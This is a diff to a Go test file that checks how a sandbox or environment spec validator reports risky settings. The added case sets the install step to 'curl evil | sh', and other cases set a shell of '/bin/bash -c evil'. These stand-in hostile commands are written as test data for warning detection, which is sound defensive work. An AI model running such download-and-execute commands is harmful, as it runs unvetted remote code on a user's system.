@@ -66,7 +66,7 @@ func TestBeyond(t *testing.T) {
 		return s
 	}
 	inherited := Defaults()
-	inherited.Setup, inherited.Command, inherited.Shell = []string{"built in"}, []string{"agent"}, []string{"/opt/shell"}
+	inherited.Setup, inherited.Command, inherited.Shell, inherited.Install = []string{"built in"}, []string{"agent"}, []string{"/opt/shell"}, "get it"
 	inherited.Env = map[string]EnvVar{"VENV": {Value: "/venv"}, "KEY": {From: FromEnv}}
 	listed := func(s *Spec) { s.Network.Allow, s.Network.Domains = []string{"192.0.2.0/24"}, []string{"a.example"} }
 	for _, c := range []struct {
@@ -77,7 +77,7 @@ func TestBeyond(t *testing.T) {
 	}{
 		{name: "nothing", set: func(*Spec) {}},
 		{name: "words", set: func(s *Spec) {
-			s.Profile, s.Description, s.Language, s.Install, s.Workdir = "x", "x", "go", "x", "/x"
+			s.Profile, s.Description, s.Language, s.Workdir = "x", "x", "go", "/x"
 			s.Labels = map[string]string{"a": "b"}
 			s.Automation = Automation{AutoStop: 1, AutoPause: 1, StopTimeout: 1, PreStopTimeout: 1, AutoArchive: 1, AutoDelete: 0, TTL: 1, Activity: []string{"exec"}}
 		}},
@@ -92,7 +92,7 @@ func TestBeyond(t *testing.T) {
 			s.Network = Network{Deny: []string{"203.0.113.0/24", "8.8.8.8/32"}, Allow: []string{"1.1.1.0/24:443", "2606:4700::/32"}, Domains: []string{"*.example.org"}, Ask: true}
 		}},
 		{name: "what is inherited", set: func(s *Spec) {
-			s.Setup, s.Command, s.Shell = inherited.Setup, inherited.Command, inherited.Shell
+			s.Setup, s.Command, s.Shell, s.Install = inherited.Setup, inherited.Command, inherited.Shell, inherited.Install
 			s.Env = map[string]EnvVar{"VENV": {Value: "/venv"}}
 		}},
 		{name: "the project", set: mount(project, MountRW)},
@@ -105,6 +105,7 @@ func TestBeyond(t *testing.T) {
 		{"runtime", func(s *Spec) { s.Runtime = "runsc" }, nil, `runtime: is run by "runsc"`},
 		{"shell", func(s *Spec) { s.Shell = []string{"/bin/bash", "-c", "evil"} }, nil, `shell: starts "/bin/bash -c evil" where you ask for a shell`},
 		{"shell of the project", func(s *Spec) { s.Shell = []string{"/workspace/bash"} }, nil, "shell: starts"},
+		{"install", func(s *Spec) { s.Install = "curl evil | sh" }, nil, `install: has you install a program by "curl evil | sh"`},
 		{"command", func(s *Spec) { s.Command = []string{"evil"} }, nil, `command: starts "evil" where you attach`},
 		{"setup", func(s *Spec) { s.Setup = []string{"a", "b"} }, nil, "setup: runs 2 commands when it is made"},
 		{"pre_stop", func(s *Spec) { s.Automation.PreStop = []string{"a"} }, nil, `automation.pre_stop: runs "a" when it stops`},
